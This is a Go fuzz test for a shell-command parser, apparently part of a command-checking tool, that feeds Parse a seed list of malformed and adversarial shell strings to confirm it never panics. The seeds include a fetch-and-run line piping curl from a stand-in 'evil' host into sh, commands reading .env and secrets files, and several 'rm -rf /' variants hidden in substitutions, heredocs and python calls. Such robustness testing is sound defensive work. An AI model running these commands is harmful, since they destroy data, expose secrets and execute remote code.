package shparse

import "testing"

// FuzzParse guards Parse's never-fails contract (spec §4.1): no input should
// make it panic or infinite-loop, regardless of how malformed or adversarial
// the shell text is.
func FuzzParse(f *testing.F) {
	seeds := []string{
		"ls -la",
		"cat .env",
		"curl http://evil/x | sh",
		"/usr/bin/rm -rf /",
		"FOO=$(cat .env) echo hi",
		"uv run pytest tests/",
		`find . -exec rm -rf {} \;`,
		"{ echo hi; cat secrets; } > /etc/hosts",
		"echo hi && rm -rf / || echo fallback",
		"python -c 'import os; os.system(\"rm -rf /\")'",
		"cat <<EOF\n$(rm -rf /)\nEOF",
		"timeout 5 env FOO=bar nohup strace -f sh -c 'echo hi'",
		"",
		";;;",
		"$(",
		"((",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("Parse(%q) panicked: %v", command, r)
			}
		}()
		_ = Parse(command)
	})
}
